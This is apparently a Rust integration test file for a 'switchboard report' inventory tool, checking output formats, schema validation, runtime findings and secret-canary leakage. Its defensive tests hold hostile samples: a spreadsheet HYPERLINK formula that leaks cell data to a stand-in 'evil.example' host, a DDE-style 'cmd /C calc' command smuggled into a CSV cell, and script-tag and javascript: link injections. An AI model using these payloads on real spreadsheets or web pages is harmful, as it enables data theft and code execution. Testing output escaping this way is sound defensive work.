//! `switchboard report` as an auditor runs it: every format over the examples, the published
//! JSON Schema, runtime findings from statuses, hostile text, a canary Secret value, and the
//! errors of live mode without a cluster.

mod support;

use std::path::Path;

use support::{EXAMPLE_INTEGRATIONS, switchboard, text, workspace};

const NOW: &str = "2026-11-28T09:00:00Z";
const RUNTIME: &str = "operator/tests/fixtures/report/runtime-status.yaml";
const HOSTILE: &str = "operator/tests/fixtures/report/hostile.yaml";
const FORMATS: &[&str] = &["markdown", "json", "csv", "mermaid", "dot", "html"];

/// Run `switchboard report` and return its standard output, failing on a non-zero exit.
fn report(args: &[&str]) -> String {
    let mut all = vec!["report", "--now", NOW];
    all.extend_from_slice(args);
    let output = switchboard(&all);
    let (stdout, stderr) = text(&output);
    assert!(output.status.success(), "switchboard {all:?} failed: {stderr}");
    stdout
}

fn json(args: &[&str]) -> serde_json::Value {
    let mut all = args.to_vec();
    all.extend(["-o", "json"]);
    serde_json::from_str(&report(&all)).expect("the JSON report parses")
}

fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn every_format_over_the_examples_names_every_integration() {
    for format in FORMATS {
        let out = report(&["-f", "examples/", "-o", format]);
        for name in EXAMPLE_INTEGRATIONS {
            assert!(out.contains(name), "{format} lacks {name}:\n{out}");
        }
        // Every Secret value in the examples starts with FAKE- or is PEM.
        for secret in ["FAKE-", "PRIVATE KEY", "BEGIN CERTIFICATE"] {
            assert!(!out.contains(secret), "{format} prints a Secret value ({secret})");
        }
    }
    let markdown = report(&["-f", "examples/"]);
    assert!(markdown.starts_with("# Switchboard report\n"), "{markdown}");
    assert!(markdown.contains("```mermaid\nflowchart LR\n"), "{markdown}");
    assert!(
        markdown.contains("| hr-employee-import | hr-platform | hr-platform@acme.example | Workday | Corporate directory (PostgreSQL) | pii |"),
        "{markdown}"
    );
    assert!(markdown.contains("unknown (offline)"), "{markdown}");

    let mermaid = report(&["-f", "examples/", "-o", "mermaid"]);
    assert!(mermaid.starts_with("flowchart LR\n"), "{mermaid}");
    assert_eq!(mermaid.matches(" -->|").count(), 12, "two data edges per integration:\n{mermaid}");
    assert!(mermaid.contains("([\"Workday\"])"), "{mermaid}");

    let dot = report(&["-f", "examples/", "-o", "dot"]);
    assert!(dot.starts_with("digraph dataflow {\n") && dot.ends_with("}\n"), "{dot}");
    assert_eq!(dot.matches(" -> ").count(), 12, "{dot}");
    assert!(dot.contains("[label=\"pii\", color=\"#b91c1c\"]"), "pii edges are marked:\n{dot}");

    let rows = csv_rows(&report(&["-f", "examples/", "-o", "csv"]));
    assert_eq!(rows.len(), 1 + EXAMPLE_INTEGRATIONS.len());
    assert_eq!(&rows[0][..4], ["Namespace", "Integration", "Description", "Owner"]);
    assert!(rows.iter().all(|r| r.len() == rows[0].len()));
}

#[test]
fn graphviz_draws_the_dot_diagram() {
    let dot = report(&["-f", "examples/", "-o", "dot", "--diagram-credentials"]);
    let mut child = std::process::Command::new(support::graphviz_dot())
        .arg("-Tsvg")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("dot runs");
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), dot.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    let (svg, stderr) = text(&output);
    assert!(output.status.success() && stderr.is_empty(), "dot refused the graph: {stderr}\n{dot}");
    for name in EXAMPLE_INTEGRATIONS.iter().chain(&["Workday", "servicenow-oauth"]) {
        // Graphviz writes '-' as a character reference.
        let drawn = format!(">{}</text>", name.replace('-', "&#45;"));
        assert!(svg.contains(&drawn), "dot did not draw {name}");
    }
}

#[test]
fn the_examples_inventory_names_owner_flow_credentials_and_schedule() {
    let report = json(&["-f", "examples/"]);
    assert_eq!(report["apiVersion"], "report.switchboard.dev/v1");
    assert_eq!(report["kind"], "Report");
    assert_eq!(report["source"]["mode"], "offline");
    assert_eq!(report["summary"]["integrations"], 6);
    let hr = report["integrations"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["name"] == "hr-employee-import")
        .expect("hr-employee-import is in the inventory");
    assert_eq!(hr["owner"]["team"], "hr-platform");
    assert_eq!(hr["owner"]["onCall"], "hr-platform-oncall");
    assert_eq!(hr["dataFlow"]["classification"], "pii");
    assert_eq!(hr["source"]["kind"], "file");
    assert_eq!(
        hr["source"]["endpoint"],
        "GET https://wd3-services.acme.example/ccx/service/customreport2/acme/hr-integrations/employees"
    );
    assert_eq!(
        hr["targets"][0]["endpoint"],
        "postgres://directory-db.acme.example:5432/directory#people.employees"
    );
    let workday = hr["credentials"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "workday-reports")
        .expect("the source credential is listed");
    assert_eq!(workday["type"], "basic");
    assert_eq!(workday["usedFor"], serde_json::json!(["source"]));
    // rotated-at 2026-11-10T08:00:00Z, report at 2026-11-28T09:00:00Z.
    assert_eq!(workday["ageDays"], 18);
    assert_eq!(hr["schedules"][0]["name"], "hr-nightly");
    assert_eq!(hr["schedules"][0]["timeZone"], "Europe/Berlin");
    assert_eq!(hr["health"]["state"], "unknown");
    assert_eq!(hr["health"]["summary"], "unknown (offline)");
    // The examples pass lint; the report adds the weak authentication of pii data from
    // Workday (basic auth); the directory database hop is exempt (databases take passwords).
    let rules: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["sensitive-data-weak-auth"]);
    assert!(
        report["findings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("source hop is authenticated only by workday-reports (basic)")
    );
    let schedule =
        report["schedules"].as_array().unwrap().iter().find(|s| s["name"] == "hr-nightly").unwrap();
    // 02:00 in Berlin (UTC+1 in winter) after 2026-11-28T09:00Z.
    assert_eq!(schedule["nextRun"], "2026-11-29T01:00:00Z");
}

fn validator() -> jsonschema::Validator {
    let text = std::fs::read_to_string(workspace().join("docs/report.schema.json"))
        .expect("docs/report.schema.json is published");
    let schema: serde_json::Value = serde_json::from_str(&text).expect("the schema is JSON");
    jsonschema::draft202012::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("the schema is a valid JSON Schema")
}

fn assert_valid(validator: &jsonschema::Validator, instance: &serde_json::Value, what: &str) {
    let errors: Vec<String> =
        validator.iter_errors(instance).map(|e| format!("{}: {e}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{what} does not validate: {errors:#?}");
}

#[test]
fn the_json_report_validates_against_the_published_schema() {
    let validator = validator();
    assert_valid(&validator, &json(&["-f", "examples/", "--diagram-credentials"]), "examples");
    assert_valid(&validator, &json(&["-f", RUNTIME]), "runtime statuses");
    assert_valid(&validator, &json(&["-f", HOSTILE]), "hostile text");
    // The schema is strict enough to catch a wrong document.
    let mut wrong = json(&["-f", "examples/"]);
    wrong["apiVersion"] = "report.switchboard.dev/v2".into();
    assert!(!validator.is_valid(&wrong), "a wrong apiVersion validates");
    let mut wrong = json(&["-f", "examples/"]);
    wrong["integrations"][0]["health"]["state"] = "fine".into();
    assert!(!validator.is_valid(&wrong), "an unknown health state validates");
    let mut wrong = json(&["-f", "examples/"]);
    wrong["generatedAt"] = "yesterday".into();
    assert!(!validator.is_valid(&wrong), "a time that is not RFC 3339 validates");
    let mut wrong = json(&["-f", "examples/"]);
    wrong["integrations"][0]["secretValue"] = "x".into();
    assert!(!validator.is_valid(&wrong), "an undeclared field validates");
}

#[test]
fn the_published_schema_is_the_generated_one() {
    let output = switchboard(&["report", "--schema"]);
    assert!(output.status.success());
    let generated = text(&output).0;
    let published = std::fs::read_to_string(workspace().join("docs/report.schema.json")).unwrap();
    assert!(
        generated == published,
        "docs/report.schema.json is stale: run `cargo run -q -p switchboard -- report --schema > docs/report.schema.json`"
    );
}

fn finding<'a>(report: &'a serde_json::Value, rule: &str, object: &str) -> &'a serde_json::Value {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == rule && f["object"] == object)
        .unwrap_or_else(|| panic!("no {rule} finding for {object}: {:#}", report["findings"]))
}

#[test]
fn runtime_findings_come_from_statuses() {
    let report = json(&["-f", RUNTIME]);
    let export = "Integration payments/payroll-export";
    let unhealthy = finding(&report, "unhealthy", export);
    assert_eq!(unhealthy["severity"], "error");
    assert_eq!(unhealthy["basis"], "observed");
    assert_eq!(
        unhealthy["message"],
        "unhealthy for 5 days (since 2026-11-23T09:00:00Z), longer than 3 days; TargetUnavailable: bank.example.com refused the connection; owner payroll"
    );
    assert!(
        finding(&report, "dead-letters-pending", export)["message"]
            .as_str()
            .unwrap()
            .starts_with("7 dead letter(s) wait for replay")
    );
    assert!(
        finding(&report, "alert-route-failing", export)["message"]
            .as_str()
            .unwrap()
            .contains("finance-pager")
    );
    let weak: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "sensitive-data-weak-auth")
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    assert_eq!(weak.len(), 1, "source (hmac); not bank (mtls), not the ledger database: {weak:?}");
    assert!(
        weak.iter()
            .any(|m| m.contains("source hop is authenticated only by payroll-signing (hmac)"))
    );
    assert!(!weak.iter().any(|m| m.contains("ledger")), "database hops are exempt: {weak:?}");
    assert_eq!(
        finding(&report, "rotation-overdue", "Credential payments/payroll-signing")["message"],
        "Secret \"payroll-signing\" was last rotated 180 days ago, longer than rotation.maxAge 90d"
    );
    assert_eq!(
        finding(&report, "credential-not-ready", "Credential payments/ledger-db")["message"],
        "not ready: SecretNotFound: Secret \"ledger-db\" does not exist"
    );
    assert_eq!(
        finding(&report, "certificate-expiring", "Credential payments/bank-mtls")["message"],
        "the client certificate expires in 7 days"
    );
    // The healthy, internal integration has no runtime findings.
    assert!(
        !report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["object"] == "Integration payments/expense-sync"),
        "{:#}",
        report["findings"]
    );
    let integrations = report["integrations"].as_array().unwrap();
    let export_entry = integrations.iter().find(|i| i["name"] == "payroll-export").unwrap();
    assert_eq!(export_entry["health"]["summary"], "unhealthy for 5 days (TargetUnavailable)");
    assert_eq!(export_entry["lastFailure"]["reason"], "TargetUnavailable");
    assert_eq!(export_entry["consecutiveFailures"], 42);
    assert_eq!(export_entry["deadLettersPending"], 7);
    assert_eq!(export_entry["findingCounts"], serde_json::json!({"errors": 2, "warnings": 2}));
    assert_eq!(report["summary"]["unhealthy"], 1);
}

#[test]
fn the_unhealthy_threshold_is_a_flag() {
    let has_unhealthy = |days: &str| {
        json(&["-f", RUNTIME, "--unhealthy-days", days])["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "unhealthy")
    };
    assert!(has_unhealthy("4"), "5 days unhealthy is more than 4");
    assert!(!has_unhealthy("5"), "5 days unhealthy is not more than 5");
}

#[test]
fn csv_neutralises_formula_cells() {
    let rows = csv_rows(&report(&["-f", HOSTILE, "-o", "csv"]));
    let row = &rows[1];
    let column = |title: &str| {
        let index = rows[0].iter().position(|c| c == title).unwrap();
        row[index].as_str()
    };
    assert_eq!(
        column("Source system"),
        "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click me\")"
    );
    assert_eq!(column("Target system"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(column("On-call"), "'-oncall");
    assert!(column("Fields").starts_with("'+1+1, \ttabbed"), "{row:?}");
    for table in ["inventory", "findings", "credentials", "endpoints", "schedules"] {
        for row in csv_rows(&report(&["-f", HOSTILE, "-o", "csv", "--table", table])) {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{table}: a cell starts like a formula: {cell:?}"
                );
            }
        }
    }
}

#[test]
fn hostile_text_is_escaped_in_markup_formats() {
    let html = report(&["-f", HOSTILE, "-o", "html"]);
    assert!(!html.contains("<script>alert"), "script injected into HTML");
    assert!(!html.contains("</text></svg><script>"), "SVG broken out of");
    assert!(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"), "{html}");
    let markdown = report(&["-f", HOSTILE]);
    assert!(!markdown.contains("<script>"), "{markdown}");
    assert!(!markdown.contains("[link](javascript"), "{markdown}");
    let dot = report(&["-f", HOSTILE, "-o", "dot"]);
    assert!(
        dot.contains(r#"label="=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click me\")""#),
        "{dot}"
    );
}

#[test]
fn no_format_contains_a_secret_value() {
    let canaries = [
        "CANARY-9d41f6b2-never-print",
        "CANARY-b64-5e1d0c7a-never-print",
        "Q0FOQVJZLWI2NC01ZTFkMGM3YS1uZXZlci1wcmludA==",
        // base64 of the plain canary, in case a Secret's data were ever echoed.
        "Q0FOQVJZLTlkNDFmNmIyLW5ldmVyLXByaW50",
    ];
    let mut outputs = Vec::new();
    for format in FORMATS {
        outputs.push((
            format.to_string(),
            report(&["-f", HOSTILE, "-o", format, "--diagram-credentials"]),
        ));
    }
    for table in ["findings", "credentials", "endpoints", "schedules"] {
        outputs.push((
            format!("csv {table}"),
            report(&["-f", HOSTILE, "-o", "csv", "--table", table]),
        ));
    }
    for (what, output) in &outputs {
        if !what.contains("findings") && !what.contains("schedules") {
            assert!(output.contains("hostile-token"), "{what} does not even name the credential");
        }
        for canary in canaries {
            assert!(!output.contains(canary), "{what} contains the secret value {canary}");
        }
        assert!(!output.contains("CANARY"), "{what} contains part of a secret value");
    }
}

#[test]
fn the_html_page_is_self_contained() {
    let html = report(&["-f", "examples/", "-o", "html"]);
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-"), "{html}");
    for forbidden in
        ["<link", "src=", "@import", "<iframe", "<object", "<embed", "http-equiv=\"refresh\""]
    {
        assert!(!html.contains(forbidden), "the page references something: {forbidden}");
    }
    // Only fragment references (the arrow marker), never a URL.
    for (index, _) in html.match_indices("url(") {
        assert!(html[index..].starts_with("url(#"), "{}", &html[index..index + 40]);
    }
    if let Some(index) = html.find("href=") {
        panic!("the page links somewhere: {}", &html[index..index + 60]);
    }
    assert_eq!(html.matches("<script>").count(), 1, "one inline script");
    assert_eq!(html.matches("<svg class=\"diagram\"").count(), 1, "the diagram is inline SVG");
    assert_eq!(html.matches("<table class=\"sortable\"").count(), 5, "{html}");
}

#[test]
fn output_file_receives_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("report.html");
    let stdout =
        report(&["-f", "examples/", "-o", "html", "--output-file", file.to_str().unwrap()]);
    assert!(stdout.is_empty(), "{stdout}");
    let written = std::fs::read_to_string(&file).unwrap();
    assert!(written.contains("hr-employee-import"));
}

#[test]
fn help_documents_every_flag() {
    let help = text(&switchboard(&["report", "--help"])).0;
    for flag in [
        "--filename",
        "--namespace",
        "--all-namespaces",
        "--kubeconfig",
        "--context",
        "--output ",
        "--output-file",
        "--table",
        "--unhealthy-days",
        "--diagram-credentials",
        "--schema",
    ] {
        assert!(help.contains(flag), "--help lacks {flag}:\n{help}");
    }
    assert!(!help.contains("--now"), "--now is for tests and stays hidden");
    let docs = std::fs::read_to_string(workspace().join("docs/report.md")).unwrap();
    for flag in [
        "-f",
        "-n",
        "-A",
        "--kubeconfig",
        "--context",
        "-o",
        "--output-file",
        "--table",
        "--unhealthy-days",
        "--diagram-credentials",
        "--schema",
    ] {
        assert!(docs.contains(&format!("`{flag}")), "docs/report.md lacks {flag}");
    }
}

#[test]
fn a_missing_path_fails_clearly() {
    let output = switchboard(&["report", "-f", "no/such/dir"]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(text(&output).1, "error: no/such/dir: no such file or directory\n");
}

/// Run `switchboard report` live with a controlled environment: no kubeconfig but the given
/// one, no in-cluster service account.
fn report_live(home: &Path, kubeconfig: Option<&Path>) -> std::process::Output {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_switchboard"));
    command
        .args(["report", "-A"])
        .env("HOME", home)
        .env_remove("KUBERNETES_SERVICE_HOST")
        .env_remove("KUBERNETES_SERVICE_PORT")
        .env_remove("KUBECONFIG");
    if let Some(path) = kubeconfig {
        command.env("KUBECONFIG", path);
    }
    command.output().unwrap()
}

#[test]
fn live_mode_without_a_cluster_says_how_to_report_offline() {
    let home = tempfile::tempdir().unwrap();
    let output = report_live(home.path(), None);
    let (stdout, stderr) = text(&output);
    assert_eq!(output.status.code(), Some(1), "{stdout}{stderr}");
    assert!(stdout.is_empty());
    assert!(stderr.starts_with("error: no cluster to report on: "), "{stderr}");
    assert!(stderr.contains("Give -f PATH to report on files offline"), "{stderr}");
}

#[test]
fn live_mode_with_an_unreachable_server_names_it() {
    let home = tempfile::tempdir().unwrap();
    let kubeconfig = home.path().join("config");
    std::fs::write(
        &kubeconfig,
        "apiVersion: v1
kind: Config
clusters: [{name: gone, cluster: {server: 'https://127.0.0.1:1', insecure-skip-tls-verify: true}}]
users: [{name: u, user: {token: not-a-real-token}}]
contexts: [{name: gone, context: {cluster: gone, user: u}}]
current-context: gone
",
    )
    .unwrap();
    let output = report_live(home.path(), Some(&kubeconfig));
    let (stdout, stderr) = text(&output);
    assert_eq!(output.status.code(), Some(1), "{stdout}{stderr}");
    assert!(
        stderr.starts_with("error: cannot reach the Kubernetes API server at https://127.0.0.1:1/"),
        "{stderr}"
    );
    assert!(!stderr.contains("not-a-real-token"), "{stderr}");
}
